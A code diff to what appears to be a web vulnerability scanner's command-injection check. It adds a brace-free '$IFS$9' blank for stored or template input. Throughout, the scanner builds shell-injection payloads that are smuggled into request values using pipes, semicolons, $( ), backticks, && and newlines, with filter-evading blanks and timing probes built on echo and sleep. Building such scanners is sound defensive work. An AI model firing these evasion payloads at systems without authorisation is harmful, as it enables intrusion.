@@ -4,6 +4,7 @@ import { encodedAsAsked } from '../attack/encoded-as-asked.ts';
 import { newDatabaseError } from '../attack/error-texts.ts';
 import { type OutputPayload, type Product, showsOutput } from '../attack/output.ts';
 import { depthWhereStored } from '../attack/storing.ts';
+import { mayBeStored } from '../attack/template-literals.ts';
 import { mayWiden, proof, repeat, Trial } from '../attack/trial.ts';
 import { showsWait } from '../attack/wait.ts';
 import type { AttackTools, PointCheck, SendOptions, WebDefinition, WebSighting } from '../check.ts';
@@ -39,6 +40,9 @@ const DEFINITION: WebDefinition = {
 
 /** A blank to a shell, and none to filters. */
 const IFS = `\${IFS}`;
+/** The same without braces, which templates made of stored text would fail at. */
+const PLAIN_IFS = '$IFS$9';
+const blankAt = (trial: Pick<Trial, 'point' | 'tools'>) => (mayBeStored(trial) ? PLAIN_IFS : IFS);
 
 const echo = ({ a, b, left, right }: Product, blank = ' ') => `echo${blank}${left}$((${a}*${b}))${right}`;
 
@@ -69,7 +73,7 @@ const summed = (context: Evidence, spell: (product: Product) => string): OutputP
 });
 
 /** Each of them gets past filters that stop the ones before it. */
-function outputPayloads(value: string, end: string): readonly OutputPayload[] {
+function outputPayloads(value: string, end: string, blank: string): readonly OutputPayload[] {
   return [
     shown({ it: 'una pipe della shell', en: 'a pipe of a shell' }, (product) => inAllQuotes(value, '|', echo(product))),
     shown({ it: 'un punto e virgola della shell', en: 'a semicolon of a shell' }, (product) =>
@@ -84,9 +88,9 @@ function outputPayloads(value: string, end: string): readonly OutputPayload[] {
     // Ends as a name of a host does.
     shown(
       { it: 'spazi scritti in altro modo', en: 'blanks that are no blanks' },
-      (product) => `${value}${end}${echo(product, IFS)}.q.test`,
+      (product) => `${value}${end}${echo(product, blank)}.q.test`,
     ),
-    shown({ it: '$( ) della shell', en: '$( ) of a shell' }, (product) => `${value}$(${echo(product, IFS)}).q.test`),
+    shown({ it: '$( ) della shell', en: '$( ) of a shell' }, (product) => `${value}$(${echo(product, blank)}).q.test`),
     summed({ it: 'apici inversi', en: 'backticks' }, (product) => `${value}\`${sumOf(product)}\``),
     summed({ it: 'una riga a sé, fra apici', en: 'a line of its own, in quotes' }, (product) =>
       inAllQuotes(value, '\n', sumOf(product, '\t'), '\t#'),
@@ -105,10 +109,10 @@ function outputPayloads(value: string, end: string): readonly OutputPayload[] {
 const LATER = 3;
 
 /** Only where answers say that something of the value was refused or understood. */
-function rarePayloads(value: string, end: string): readonly OutputPayload[] {
+function rarePayloads(value: string, end: string, blank: string): readonly OutputPayload[] {
   return [
     shown({ it: '$( ) della shell, fra apici', en: '$( ) of a shell, in quotes' }, (product) =>
-      inAllWords(value, `$(${echo(product, IFS)})`),
+      inAllWords(value, `$(${echo(product, blank)})`),
     ),
     shown({ it: 'due pipe', en: 'two pipes' }, (product) => inAllQuotes(`${value}_no_such`, '||', echo(product))),
     shown({ it: 'due e commerciali', en: 'two ampersands' }, (product) => inAllQuotes(value, '&&', echo(product))),
@@ -158,15 +162,15 @@ function windowsPayloads(value: string): readonly OutputPayload[] {
   ];
 }
 
-const waits = (value: string, end: string): ReadonlyArray<(seconds: number) => string> => [
+const waits = (value: string, end: string, blank: string): ReadonlyArray<(seconds: number) => string> => [
   // In double quotes both are read: what has been assigned is not run again.
   (seconds) => inAllWords(value, `\${q=$(sleep${IFS}${seconds})}`),
   (seconds) => inAllQuotes(value, end, `sleep ${seconds}`, ';#'),
   (seconds) => inAllQuotes(value, '|', `sleep ${seconds}`),
   (seconds) => `${value}\nsleep\t${seconds}\n`,
-  (seconds) => `${value}$(sleep${IFS}${seconds}).q.test`,
-  (seconds) => `${value}${end}sleep${IFS}${seconds};`,
-  (seconds) => `${value}\`sleep${IFS}${seconds}\``,
+  (seconds) => `${value}$(sleep${blank}${seconds}).q.test`,
+  (seconds) => `${value}${end}sleep${blank}${seconds};`,
+  (seconds) => `${value}\`sleep${blank}${seconds}\``,
   (seconds) => inAllQuotes(value, '&&', `sleep ${seconds}`),
 ];
 const windowsWaits = (value: string): ReadonlyArray<(seconds: number) => string> => [
@@ -249,12 +253,13 @@ async function heardFrom(trial: Trial): Promise<WebSighting | null> {
 async function payloadsFor(trial: Trial, named: boolean): Promise<readonly OutputPayload[]> {
   const { value } = trial.point;
   const end = endOf(trial.point);
+  const blank = blankAt(trial);
   const usual = [
     ...(isWindows(trial) ? windowsPayloads(value) : []),
-    ...outputPayloads(value, end),
+    ...outputPayloads(value, end, blank),
     ...(mayOpen(trial) ? OPENED : []),
   ];
-  const all = [...usual, ...rarePayloads(value, end)];
+  const all = [...usual, ...rarePayloads(value, end, blank)];
   if (trial.atLeast('high')) return all;
   if (!trial.atLeast('default')) return usual.slice(0, named ? 4 : 1);
   if (trial.isIgnored) return named ? usual : usual.slice(0, 1);
@@ -270,7 +275,7 @@ async function attackPoint(point: InjectionPoint, tools: AttackTools): Promise<r
   const direct = (await payloadsFor(trial, named)).map((payload) => ({ payload, at: trial }));
   // The result may stand on the page that the form leads on to.
   const landing = named && trial.atLeast('default') ? await trial.landing() : null;
-  const later = landing ? outputPayloads(point.value, endOf(point)).slice(0, LATER) : [];
+  const later = landing ? outputPayloads(point.value, endOf(point), blankAt(trial)).slice(0, LATER) : [];
   for (const { payload, at } of [...direct, ...later.map((payload) => ({ payload, at: landing ?? trial }))]) {
     const seen = await showsOutput(at, payload);
     if (!seen) continue;
@@ -328,7 +333,10 @@ export async function waitsForCommand(
   trial: Trial,
   { most, value = trial.point.value, options = {} }: CommandWaits = {},
 ): Promise<WebSighting | null> {
-  const spellings = [...(isWindows(trial) ? windowsWaits(value) : []), ...waits(value, endOf(trial.point))];
+  const isText = mayBeStored(trial) && !mayBeCommand(trial.point) && !bringsFile(trial.point.request);
+  const ofShell = waits(value, endOf(trial.point), isText ? PLAIN_IFS : IFS);
+  // A text that is stored may be no command but a template, to which the braces of the first mean something else.
+  const spellings = [...(isWindows(trial) ? windowsWaits(value) : []), ...ofShell.slice(isText ? 1 : 0)];
   for (const of of spellings.slice(0, most)) {
     const seen = await showsWait(trial, { of, options });
     if (!seen) continue;
